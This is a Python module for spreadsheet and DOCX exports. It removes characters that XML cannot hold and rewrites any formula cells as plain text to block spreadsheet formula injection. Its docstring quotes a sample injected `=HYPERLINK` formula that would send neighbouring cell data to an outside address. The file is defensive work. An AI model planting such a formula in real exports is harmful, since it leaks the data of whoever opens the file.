"""Spreadsheet exports: cells of data are text, never formulas.

openpyxl makes a formula of any string that starts with "=": an e-mail subject, an edXML header or a unit's progress
note written as `=HYPERLINK("http://…"&F6, "…")` would run when the clerk opens the export and send the neighbouring
cells away. Every export calls `save_as_text` instead of `wb.save`; no export writes a formula of its own.
"""
from __future__ import annotations

import io
import re
from typing import Any

# characters an XML document cannot hold (python-docx and openpyxl refuse them when the file is written)
_XML_INCOMPATIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def xml_text(text: str) -> str:
    """A value of an export (DOCX or Excel) without the characters XML cannot hold. A register line's sender is the
    display name of an e-mail's From — anyone's to write —: one U+FFFE in it made the whole sổ đến export a server
    error (SECURITY.md 77). Every value from users or intake goes through this before a writer sees it."""
    return _XML_INCOMPATIBLE.sub("", text)


def save_as_text(wb: Any) -> bytes:
    """The workbook's bytes, every cell that openpyxl took for a formula written as the text it was given."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def print_with_header(ws: Any, header_row: int) -> None:
    """Printed, a sheet of many rows repeats its header row on every page (a leader reading page 3 of the giao ban
    pack sees the column names), on A4 landscape, as wide as one page."""
    ws.print_title_rows = f"{header_row}:{header_row}"
    ws.page_setup.orientation = "landscape"
    ws.page_setup.paperSize = ws.PAPERSIZE_A4
    ws.sheet_properties.pageSetUpPr.fitToPage = True
    ws.page_setup.fitToWidth = 1
    ws.page_setup.fitToHeight = 0
